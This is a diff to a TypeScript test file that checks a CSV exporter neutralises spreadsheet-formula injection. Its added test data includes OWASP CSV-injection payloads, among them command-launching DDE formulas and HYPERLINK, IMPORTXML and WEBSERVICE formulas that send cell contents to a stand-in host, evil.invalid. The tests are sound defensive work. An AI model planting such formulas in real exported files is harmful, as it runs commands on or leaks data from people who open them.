@@ -4,7 +4,7 @@ import { stringify } from 'csv-stringify';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { CATALOGUE } from '../../core/domain/export/catalogue';
-import { csvField, csvLine, csvStart, EXCEL_CSV, neutraliseText, type CsvFormat } from '../../core/domain/export/csv';
+import { csvField, csvLine, csvStart, EXCEL_CSV, FORMULA_PATTERN, neutraliseText, type CsvFormat } from '../../core/domain/export/csv';
 import { cellWriter, formatCell } from '../../core/domain/export/format';
 import { financialQuarter, financialYear, lastMonth, lastQuarter, month, previousPeriod, quarter } from '../../core/domain/export/periods';
 import { profileSchema } from '../../core/domain/export/profile';
@@ -22,7 +22,7 @@ async function viaCsvStringify(format: CsvFormat, header: string[], rows: string
     record_delimiter: format.lineEnding === 'crlf' ? 'windows' : 'unix',
     header: true,
     columns: header.map((h, i) => ({ key: String(i), header: neutraliseText(h) })),
-    quoted_match: [/^'[=+\-@\t\r\n\0]/, /[\r\n]/],
+    quoted_match: [new RegExp(`^'${FORMULA_PATTERN}`), /[\r\n]/],
     quote: '"',
     escape: '"',
   });
@@ -99,10 +99,51 @@ describe('CSV for Excel', () => {
     expect(out.toString()).toContain(`"'=HYPERLINK(""http://x.invalid"",""click"")"`);
   });
 
+  // OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), the
+  // same behind what spreadsheets skip at the start of a cell, and the fullwidth forms.
+  const OWASP = [
+    '=1+2";=1+2',
+    '=1+2\'" ;,=1+2',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+2+3+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.invalid?leak="&A1&A2,"Error: click for details")',
+    "=IMPORTXML(CONCAT(\"http://evil.invalid/?v=\", CONCATENATE(A2:E2)), \"//a\")",
+    '=WEBSERVICE("http://evil.invalid")',
+    '\t=1+2',
+    '\r=1+2',
+    '\n=1+2',
+    '\tplain after a tab',
+    '\rplain after a carriage return',
+  ];
+  const DISGUISED = ['=', '+', '-', '@'].flatMap((c) => [' ', '   ', '\u00A0', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\t', '\r\n', ' \u200B\t'].map((lead) => `${lead}${c}1+1`));
+  const FULLWIDTH = ['\uFF1D1+1', '\uFF0B1+1', '\uFF0D1+1', '\uFF20SUM(A1)', ' \uFF1DHYPERLINK("x")', '\u200B\uFF20x'];
+
+  it.each([...OWASP, ...DISGUISED, ...FULLWIDTH])('neutralises %j, quoted so the apostrophe reads as text, and reads back the same', (payload) => {
+    const cell = neutraliseText(payload);
+    expect(cell).toBe(`'${payload}`);
+    for (const delimiter of [',', ';', '\t'] as const) expect(csvField(cell, delimiter).startsWith(`"'`)).toBe(true);
+    const out = csv(EXCEL_CSV, ['cell'], [[cell]]);
+    expect((parse(out, { bom: true, columns: true }) as { cell: string }[])[0].cell).toBe(cell);
+  });
+
+  it('leaves ordinary text alone, and real numbers in number columns as numbers', () => {
+    for (const text of ['plain', ' leading space', 'a=b', 'x-1', '1+1', "'already quoted", 'e-mail', '\u200Bword', '３']) expect(neutraliseText(text)).toBe(text);
+    const change = CATALOGUE.outcomes.find((c) => c.kind === 'number')!;
+    const style = { dateFormat: 'iso', codeStyle: 'code' } as const;
+    // A change score of -3 is a value, not a formula: written as the number it is.
+    expect(formatCell(-3, change, style)).toBe('-3');
+    expect(cellWriter(change, style, ',')(-3)).toBe('-3');
+    // Text that only looks like a number is neutralised, as before, with or without disguise.
+    expect(formatCell('-3', change, style)).toBe("'-3");
+    expect(formatCell(' -3', change, style)).toBe("' -3");
+  });
+
   it('writes exactly what csv-stringify wrote, for any cells, delimiter, line ending and byte-order mark', async () => {
     // Cells from characters that matter to CSV and formulas, plus ordinary text and non-ASCII.
     const cell = fc.oneof(
-      fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', ',', ';', '\t', '"', "'", '\r', '\n', '=', '+', '-', '@', '\0', 'é', '€', '😀'), maxLength: 8 }),
+      fc.string({ unit: fc.constantFrom('a', 'Z', '1', ' ', ',', ';', '\t', '"', "'", '\r', '\n', '=', '+', '-', '@', '\0', 'é', '€', '😀', '\u200B', '\uFEFF', '＝', '＠'), maxLength: 8 }),
       fc.string({ maxLength: 12 }),
       fc.constantFrom('', "'=1", '=SUM(A1)', '-3', '00123'),
     );
